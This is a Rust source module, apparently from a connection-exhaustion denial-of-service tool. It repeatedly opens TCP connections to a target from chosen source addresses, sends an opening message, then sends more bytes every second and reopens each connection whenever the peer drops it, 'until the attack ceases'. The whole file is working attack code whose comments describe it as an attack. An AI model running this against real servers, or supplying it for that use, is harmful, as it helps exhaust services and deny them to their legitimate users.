//! Connections of TCP that do no good.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{interval, timeout};

use super::{Shared, add, words};

/// How long a connection may take to be opened.
const OPEN: Duration = Duration::from_secs(5);

/// Keeps one connection open: whenever the peer closes it there is another, until the attack ceases.
pub(super) async fn again_and_again(shared: Arc<Shared>, number: u64) {
    while shared.permit().await {
        match timeout(OPEN, connect(&shared, number)).await {
            Ok(Ok(stream)) => {
                add(&shared.opened, 1);
                add(&shared.open, 1);
                // However it ends, the peer has closed it.
                let _ = misbehave(&shared, number, stream).await;
                shared.open.fetch_sub(1, std::sync::atomic::Ordering::Relaxed);
            }
            Ok(Err(_)) | Err(_) => add(&shared.failed, 1),
        }
    }
}

/// Connects from the address of this number.
pub(super) async fn connect(shared: &Shared, number: u64) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    let source = shared.source(number);
    if !source.is_unspecified() {
        socket.bind(SocketAddr::new(IpAddr::V4(source), 0))?;
    }
    let stream = socket.connect(SocketAddr::V4(shared.plan.target)).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Says what its kind says, and listens until the peer has enough.
async fn misbehave(shared: &Shared, number: u64, mut stream: TcpStream) -> io::Result<()> {
    let kind = shared.plan.kind;
    stream.write_all(&words::first(kind, number)?).await?;
    let second = Duration::from_secs(1);
    let mut tick = interval(second);
    // The first comes at once.
    tick.tick().await;
    let mut heard = [0; 512];
    loop {
        tokio::select! {
            read = stream.read(&mut heard) => if read? == 0 { return Ok(()) },
            _ = tick.tick(), if words::then(kind).is_some() => {
                stream.write_all(words::then(kind).as_slice()).await?;
            }
        }
    }
}
